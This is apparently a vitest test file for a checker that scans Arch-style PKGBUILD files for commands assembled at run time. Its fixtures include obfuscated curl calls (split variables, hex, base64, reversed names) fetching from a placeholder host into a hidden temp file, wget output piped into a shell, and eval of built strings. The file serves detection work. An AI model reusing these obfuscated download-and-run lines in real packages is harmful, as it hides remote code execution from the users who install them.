import { describe, expect, it } from 'vitest';
import { checkAssembledCommand } from './check-assembled.js';
import { brief, lineOf, riskInput } from './fixtures/helpers.js';
import { PYTHON_PKG, WIDGET_GIT, fancytool, slinkyBin } from './fixtures/packages.js';

const prev = fancytool();

function inPackage(...lines: string[]) {
  const cand = fancytool({ packageExtra: lines });
  return { flags: checkAssembledCommand(riskInput(cand, prev)), cand };
}

describe('assembled-command', () => {
  it.each([
    [['_a=cu', '_b=rl', '$_a$_b -fsSL https://x.y/p -o /tmp/.p'], '$_a$_b', /runs `curl` through a command name assembled/],
    [['"$(printf \'\\x63\\x75\\x72\\x6c\')" -s https://x.y/p'], '$(printf', /runs `curl`/],
    [['$(echo Y3VybA== | base64 -d) -s https://x.y/p'], 'Y3VybA', /runs `curl`/],
    [['$(echo lruc | rev) -s https://x.y/p'], 'lruc', /runs `curl`/],
    [['local t=bash', 'wget -qO- https://x.y/p | $t'], '| $t', /runs `bash`/],
    [['wget -qO- https://x.y/p | "${SHELL:-sh}"'], 'SHELL', /defaulting to sh/],
    [['wget -qO- https://x.y/p | $runner'], '$runner', /pipes into a command named at run time/],
    [['_n=tool', '${!_n} --install'], '${!_n}', /indirection/],
    [['eval "$_payload"'], 'eval', /evaluates a string built at run time/],
    [['eval $(echo "$x" | rev)'], 'eval', /evaluates/],
    [['bash -c "$cmd"'], 'bash -c', /runs bash on a script built at run time/],
    [['python3 -c "$_code"'], 'python3 -c', /runs python3 on a script/],
  ])('flags %j (high) at the telling line', (lines, needle, reason) => {
    const { flags, cand } = inPackage(...lines);
    expect(brief(flags)).toEqual([{ check: 'assembled-command', severity: 'high', file: 'PKGBUILD', line: lineOf(cand.PKGBUILD, needle) }]);
    expect(flags[0]!.reason).toMatch(reason);
  });

  it('flags a single unknown variable as the command (medium)', () => {
    const { flags } = inPackage('"$_helper" --setup');
    expect(brief(flags).map((f) => f.severity)).toEqual(['medium']);
  });

  it('accepts build-tool variables, paths, literal values and harmless names', () => {
    for (const lines of [
      ['$CC $CFLAGS -o hello hello.c'],
      ['"${MAKE:-make}" -j2'],
      ['"$srcdir/$pkgname-$pkgver/configure" --prefix=/usr'],
      ['$(go env GOPATH)/bin/stringer -type=Kind'],
      ['_py=python3', '$_py -m installer --destdir="$pkgdir" dist/*.whl'],
      ['eval "export GOFLAGS=-trimpath"'],
      ['bash -c "make -C build install"'],
      ['echo "run \\$cmd yourself"'],
    ]) {
      expect(inPackage(...lines).flags, lines.join('; ')).toEqual([]);
    }
    for (const files of [fancytool(), slinkyBin(), WIDGET_GIT, PYTHON_PKG]) expect(checkAssembledCommand(riskInput(files))).toEqual([]);
  });
});
